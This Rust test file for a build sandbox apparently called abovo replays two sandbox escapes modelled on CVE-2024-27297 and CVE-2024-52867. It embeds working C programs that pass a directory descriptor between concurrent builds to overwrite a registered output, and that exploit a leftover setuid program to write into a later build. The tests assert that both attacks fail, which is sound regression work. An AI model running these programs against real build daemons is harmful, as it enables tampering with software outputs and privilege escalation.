//! Two ways out of the sandbox that were found in abovo, each replayed as
//! an attack (docs/build.md, "Two escapes, and how the design closes
//! them"):
//!
//! * two fixed-output builds running at once: one hands the other a
//!   descriptor of the directory where abovo makes the fresh copy of its
//!   output, and the other writes through it after registration (the
//!   pattern of CVE-2024-27297, through a second build);
//! * a build kept with `--keep-failed` leaves a setuid program of the build
//!   user, with which anyone becomes the build user of a later build and
//!   writes into it before registration (the pattern of CVE-2024-52867).
#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

mod cli_build_support;

use cli_build_support::{TestStore, c_program, sha256_hex};
use serde_json::json;
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;

/// Two builders that hand each other a descriptor over an abstract Unix
/// socket, as two fixed-output builds sharing the host's network namespace
/// can. `send` gives a descriptor of a directory; `steal` receives one,
/// opens for writing every regular file that appears in that directory
/// during SECS seconds, waits SECS more, and writes `EVIL` into each.
const FDPASS: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static socklen_t address(struct sockaddr_un *a, const char *name) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    strncpy(a->sun_path + 1, name, sizeof a->sun_path - 2);
    return offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

union control { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int))]; };

static int send_dir(const char *name, const char *dir) {
    int d = open(dir, O_RDONLY | O_DIRECTORY);
    if (d < 0) { perror(dir); return 1; }
    struct sockaddr_un a;
    socklen_t len = address(&a, name);
    int s = -1;
    for (int i = 0; i < 200 && s < 0; i++) {
        s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&a, len) != 0) { close(s); s = -1; usleep(50000); }
    }
    if (s < 0) { printf("fdpass: nobody to send to\n"); return 0; }
    char byte = 'd';
    struct iovec iov = { &byte, 1 };
    union control c;
    memset(&c, 0, sizeof c);
    struct msghdr m = { 0 };
    m.msg_iov = &iov; m.msg_iovlen = 1;
    m.msg_control = c.buf; m.msg_controllen = sizeof c.buf;
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS; h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &d, sizeof d);
    if (sendmsg(s, &m, 0) < 0) { perror("sendmsg"); return 1; }
    printf("fdpass: sent a descriptor of %s\n", dir);
    return 0;
}

static int steal(const char *name, int secs) {
    struct sockaddr_un a;
    socklen_t len = address(&a, name);
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(l, (struct sockaddr *)&a, len) < 0 || listen(l, 1) < 0) { perror("bind"); return 1; }
    struct pollfd p = { l, POLLIN, 0 };
    if (poll(&p, 1, 20000) != 1) { printf("fdpass: no descriptor received\n"); return 0; }
    int s = accept(l, 0, 0);
    char byte;
    struct iovec iov = { &byte, 1 };
    union control c;
    struct msghdr m = { 0 };
    m.msg_iov = &iov; m.msg_iovlen = 1;
    m.msg_control = c.buf; m.msg_controllen = sizeof c.buf;
    if (recvmsg(s, &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) { printf("fdpass: no descriptor received\n"); return 0; }
    int d;
    memcpy(&d, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof d);
    printf("fdpass: received a descriptor\n");
    fflush(stdout);
    int held[256], n = 0;
    struct stat seen[256];
    double end = now() + secs;
    while (now() < end && n < 256) {
        DIR *dir = fdopendir(dup(d));
        if (!dir) { perror("fdopendir"); return 1; }
        rewinddir(dir);
        struct dirent *e;
        while ((e = readdir(dir)) && n < 256) {
            int f = openat(d, e->d_name, O_WRONLY | O_NOFOLLOW | O_NONBLOCK);
            if (f < 0) continue;
            struct stat st;
            int known = fstat(f, &st) != 0 || !S_ISREG(st.st_mode);
            for (int i = 0; i < n && !known; i++)
                known = seen[i].st_dev == st.st_dev && seen[i].st_ino == st.st_ino;
            if (known) { close(f); continue; }
            seen[n] = st;
            held[n++] = f;
            printf("fdpass: opened %s for writing\n", e->d_name);
            fflush(stdout);
        }
        closedir(dir);
    }
    sleep(secs);
    int wrote = 0;
    for (int i = 0; i < n; i++) wrote += pwrite(held[i], "EVIL", 4, 0) == 4;
    printf("fdpass: wrote through %d of %d descriptors\n", wrote, n);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 4 && !strcmp(argv[1], "send")) return send_dir(argv[2], argv[3]);
    if (argc == 4 && !strcmp(argv[1], "steal")) return steal(argv[2], atoi(argv[3]));
    fprintf(stderr, "usage: fdpass send NAME DIR | fdpass steal NAME SECS\n");
    return 2;
}
"#;

#[test]
fn a_fixed_output_cannot_be_changed_through_a_second_fixed_output_build() {
    let test = "a_fixed_output_cannot_be_changed_through_a_second_fixed_output_build";
    // Rootless is where this worked: the copy belongs to abovo's uid, which
    // is every builder's uid. As root, abovo runs as uid 65534.
    let root = rustix_euid() == 0;
    let mut t = TestStore::with_user(root.then_some(65534));
    if t.add_busybox(test).is_none() {
        return;
    }
    let Some(fdpass) = c_program(test, "fdpass", FDPASS) else {
        return;
    };
    let tools = t.add_tools("fdpass", &[("fdpass", fdpass)]);
    let socket = format!("abovo-escape-{}", std::process::id());
    // A: hands out its fake store (where abovo used to make the fresh copy
    // of its output), then writes a large output, so that the copy takes a
    // while.
    let size = 16 << 20;
    let zeros = vec![0u8; size];
    let a = t.add_drv(&t.sh_drv(
        "victim",
        &format!("{tools}/fdpass send {socket} $NIX_STORE && $bb head -c {size} /dev/zero > $out"),
        json!({
            "inputSrcs": [tools],
            "outputs": {"out": {"hashAlgo": "sha256", "hash": sha256_hex(&zeros)}},
        }),
    ));
    // B: receives it and writes through whatever it can open.
    let b = t.add_drv(&t.sh_drv(
        "accomplice",
        &format!("{tools}/fdpass steal {socket} 3; printf 'done\\n' > $out"),
        json!({
            "inputSrcs": [tools],
            "outputs": {"out": {"hashAlgo": "sha256", "hash": sha256_hex(b"done\n")}},
        }),
    ));
    // Guix 1.5 gives each fixed-output build a network namespace of its
    // own, which closes this channel too; the design must not depend on
    // it, so the test opens it.
    t.ok(&[
        "build",
        "--jobs",
        "2",
        "--fixed-output-network",
        "host",
        &a,
        &b,
    ]);
    let log = t.ok(&["log", &b]);
    assert!(
        log.contains("fdpass: received a descriptor"),
        "the two builds must share a channel for this test to mean anything:\n{log}"
    );
    let out = t.output(&a);
    let bytes = std::fs::read(&out).unwrap();
    assert!(
        bytes == zeros,
        "the registered output was changed after its hash was checked \
         (starts with {:?}); the accomplice's log:\n{log}",
        String::from_utf8_lossy(&bytes[..8])
    );
    assert!(t.verify_consistent());
}

/// What an unprivileged user does with a setuid program of the build user:
/// says who it is now, then tries for four seconds to write `EVIL` into a
/// file of a later build (its argument).
const BECOME: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    printf("%d\n", (int)geteuid());
    fflush(stdout);
    for (int i = 0; i < 80; i++) {
        int f = open(argv[1], O_WRONLY | O_TRUNC);
        if (f >= 0 && write(f, "EVIL\n", 5) == 5) { printf("wrote\n"); return 0; }
        usleep(50000);
    }
    printf("denied\n");
    return 0;
}
"#;

#[test]
fn a_kept_build_directory_gives_no_one_the_build_user() {
    let test = "a_kept_build_directory_gives_no_one_the_build_user";
    if rustix_euid() != 0 {
        eprintln!("{test}: skipped: needs root (build uids of a pool, another user to attack)");
        return;
    }
    let mut t = TestStore::new();
    if t.add_busybox(test).is_none() {
        return;
    }
    let Some(become_) = c_program(test, "become", BECOME) else {
        return;
    };
    let tools = t.add_tools("become", &[("become", become_)]);
    // Reachable by other users, as /tmp and a store are.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(t.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(t.tmp(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    // A failed build leaves a setuid and setgid program of the build user
    // in its build directory, open to all.
    let failed = t.add_drv(&t.sh_drv(
        "suid-left",
        &format!(
            "$bb cp {tools}/become $NIX_BUILD_TOP/become; $bb chmod 6755 $NIX_BUILD_TOP/become
             $bb mkdir $NIX_BUILD_TOP/sub; $bb chmod 2777 $NIX_BUILD_TOP/sub
             $bb chmod 0755 $NIX_BUILD_TOP; exit 1"
        ),
        json!({"inputSrcs": [tools]}),
    ));
    // No system call filter (the default, as guix-daemon), so the builder
    // may set setuid bits.
    let out = t.run(&["build", "--keep-failed", &failed]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    let kept = err
        .split("(build directory kept at ")
        .nth(1)
        .and_then(|r| r.split(')').next())
        .unwrap_or_else(|| panic!("no kept directory in:\n{err}"))
        .to_owned();
    // The attack: an unprivileged user runs the kept program to become the
    // build user, whose uid the next build gets again, and writes into that
    // build's output before it is registered.
    let later = t.add_drv(&t.sh_drv(
        "victim",
        "$bb mkdir $out; echo built > $out/file; $bb sleep 3",
        json!({}),
    ));
    let later_out = t.output(&later);
    let build = t
        .cmd(&["build", &later])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let attack = std::process::Command::new(format!("{kept}/become"))
        .arg(format!("{later}.chroot{later_out}/file"))
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    let build = build.wait_with_output().unwrap();
    assert!(
        build.status.success(),
        "{}",
        String::from_utf8_lossy(&build.stderr)
    );
    let said = String::from_utf8_lossy(&attack.stdout);
    assert_eq!(
        said.lines().collect::<Vec<_>>(),
        ["65534", "denied"],
        "an unprivileged user became the build user through the kept directory"
    );
    assert_eq!(
        std::fs::read_to_string(format!("{later_out}/file")).unwrap(),
        "built\n"
    );
    assert!(t.verify_consistent());
    // What guix-daemon does since CVE-2024-52867: no setuid or setgid bit
    // is left, and everything belongs to the user who asked.
    for entry in walkdir(std::path::Path::new(&kept)) {
        let m = std::fs::symlink_metadata(&entry).unwrap();
        assert_eq!(
            m.mode() & 0o6000,
            0,
            "{} keeps a setuid or setgid bit",
            entry.display()
        );
        assert_eq!(
            (m.uid(), m.gid()),
            (0, 0),
            "{} must belong to the user who asked (root)",
            entry.display()
        );
    }
}

/// Every path under `dir`, `dir` included (not following symlinks).
fn walkdir(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut all = vec![dir.to_owned()];
    if std::fs::symlink_metadata(dir).unwrap().is_dir() {
        for e in std::fs::read_dir(dir).unwrap() {
            all.extend(walkdir(&e.unwrap().path()));
        }
    }
    all
}

fn rustix_euid() -> u32 {
    std::fs::metadata("/proc/self").unwrap().uid()
}
